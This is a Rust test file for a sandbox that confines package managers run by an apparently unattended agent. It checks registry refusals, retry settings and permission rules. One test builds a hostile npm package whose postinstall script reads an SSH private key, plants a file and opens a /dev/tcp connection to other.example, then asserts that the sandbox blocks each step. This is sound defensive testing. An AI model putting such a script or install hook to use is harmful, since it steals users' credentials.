//! Package managers in the sandbox.

use std::{
    fs,
    process::{Command, Output, Stdio},
    time::{Duration, Instant},
};

use super::Arena;

/// The longest time of a client that does not try again. npm waits 10 seconds before it does.
const AT_ONCE: Duration = Duration::from_secs(9);

/// Runs a command without any host. Returns its output and its duration.
fn run_offline(arena: &Arena, options: &[&str], command: &[&str]) -> (Output, Duration) {
    let start = Instant::now();
    let mut run = arena.run(options, command);
    let output = run.stdin(Stdio::null()).output().unwrap();
    (output, start.elapsed())
}

fn is_installed(program: &str) -> bool {
    Command::new(program).arg("--version").output().is_ok_and(|output| output.status.success())
}

#[test]
fn clients_of_refused_registries_end_at_once() {
    let arena = Arena::new();
    let commands: [&[&str]; 3] = [
        &["npm", "view", "is-odd", "version"],
        &["python3", "-m", "pip", "download", "--no-deps", "six"],
        &["git", "ls-remote", "https://example.org/repository"],
    ];
    for command in commands.into_iter().filter(|command| is_installed(command[0])) {
        for network in [&[][..], &["--net", "other.example"]] {
            let (output, duration) = run_offline(&arena, network, command);
            assert!(!output.status.success() && duration < AT_ONCE, "{command:?}: {duration:?}");
            let text = String::from_utf8_lossy(&output.stderr);
            assert!(text.contains("openoxide: refused: a connection to"), "{text}");
        }
    }
}

#[test]
fn a_reachable_registry_is_tried_again() {
    let arena = Arena::new();
    let script = "echo ${npm_config_fetch_retries-default} ${CARGO_NET_RETRY-default}";
    for (options, expected) in [
        (&[][..], "0 0\n"),
        (&["--net", "registry.npmjs.org"], "default 0\n"),
        (&["--net", "index.crates.io,registry.npmjs.org"], "default default\n"),
        (&["--env", "CARGO_NET_RETRY=7"], "0 7\n"),
    ] {
        let (output, _) = run_offline(&arena, options, &["sh", "-c", script]);
        assert_eq!(String::from_utf8_lossy(&output.stdout), expected, "{options:?}");
    }
}

/// A project of a person whose policy lets the sandbox confine commands.
fn confining_project(rules: &str) -> Arena {
    let arena = Arena::new();
    let policy = arena.path("home/.config/openoxide/policy.toml");
    fs::create_dir_all(policy.parent().unwrap()).unwrap();
    let settings =
        format!("[sandbox]\nauto_allow = \"project\"\n[permissions]\nallow = [{rules}]\n");
    fs::write(policy, settings).unwrap();
    fs::write(arena.path("w/package.json"), r#"{"name":"w","version":"1.0.0"}"#).unwrap();
    arena
}

/// Runs a script as an agent does, without a person. Returns its messages.
fn run_unattended(arena: &Arena, script: &str) -> (Option<i32>, String) {
    let mut run = arena.command();
    run.args(["run", "--no-input", "--", "bash", "-c", script]).stdin(Stdio::null());
    let output = run.output().unwrap();
    (output.status.code(), String::from_utf8(output.stderr).unwrap())
}

const NPM_RULE: &str = "\"WebFetch(registry:npm)\"";

#[test]
fn a_rule_about_a_registry_answers_for_all_its_installations_and_no_upload() {
    let arena = confining_project("");
    let (status, text) = run_unattended(&arena, "npm install is-odd");
    assert_eq!(status, Some(4), "{text}");
    assert!(text.contains("contacts `registry.npmjs.org`"), "{text}");
    assert!(text.contains("add a rule to your policy: WebFetch(registry:npm)"), "{text}");
    let arena = confining_project(NPM_RULE);
    for command in ["npm publish", "npm install -g is-odd", "cargo fetch", "pip install six"] {
        let (status, text) = run_unattended(&arena, command);
        assert_eq!(status, Some(4), "{command}: {text}");
        assert!(text.contains("nothing was run"), "{text}");
    }
    if !is_installed("npm") {
        return;
    }
    let (status, text) = run_unattended(&arena, "npm install --ignore-scripts");
    assert_eq!(status, Some(0), "{text}");
}

#[test]
fn packages_are_installed_from_the_real_registry() {
    let online = Command::new("npm").args(["view", "is-odd", "version"]).output();
    if !online.is_ok_and(|output| output.status.success()) {
        return;
    }
    let arena = confining_project(NPM_RULE);
    let (status, text) = run_unattended(&arena, "npm install is-number");
    assert_eq!(status, Some(0), "{text}");
    assert!(arena.path("w/node_modules/is-number/package.json").exists());
    assert!(!arena.path("home/.npm").exists(), "the cache stays private");
}

/// The positive control is the file that the script creates in its own package.
#[test]
fn an_install_script_reads_no_secret_and_contacts_no_other_host() {
    if !is_installed("npm") {
        return;
    }
    let arena = confining_project(NPM_RULE);
    fs::create_dir_all(arena.path("home/.ssh")).unwrap();
    fs::write(arena.path("home/.ssh/id_ed25519"), "the-private-key").unwrap();
    fs::create_dir_all(arena.path("package")).unwrap();
    let script = "touch ran; cat ~/.ssh/id_ed25519 > stolen; touch ~/planted; \
        (exec 3<>/dev/tcp/other.example/443; read -r answer <&3 && touch answered); true";
    fs::write(arena.path("package/steal.sh"), script).unwrap();
    let manifest =
        r#"{"name":"hostile","version":"1.0.0","scripts":{"postinstall":"bash steal.sh"}}"#;
    fs::write(arena.path("package/package.json"), manifest).unwrap();
    let mut pack = Command::new("tar");
    pack.args(["czf", "w/hostile.tgz", "package"]).current_dir(arena.path(""));
    assert!(pack.status().unwrap().success());
    let (status, text) =
        run_unattended(&arena, "npm install --dangerously-allow-all-scripts ./hostile.tgz");
    assert_eq!(status, Some(0), "{text}");
    let package = arena.path("w/node_modules/hostile");
    assert!(package.join("ran").exists(), "the script ran: {text}");
    assert_eq!(fs::read_to_string(package.join("stolen")).unwrap(), "");
    assert!(!package.join("answered").exists(), "a host answered");
    assert!(!arena.path("home/planted").exists(), "the home directory is read-only");
    assert!(text.contains("refused: a connection to other.example:443"), "{text}");
}
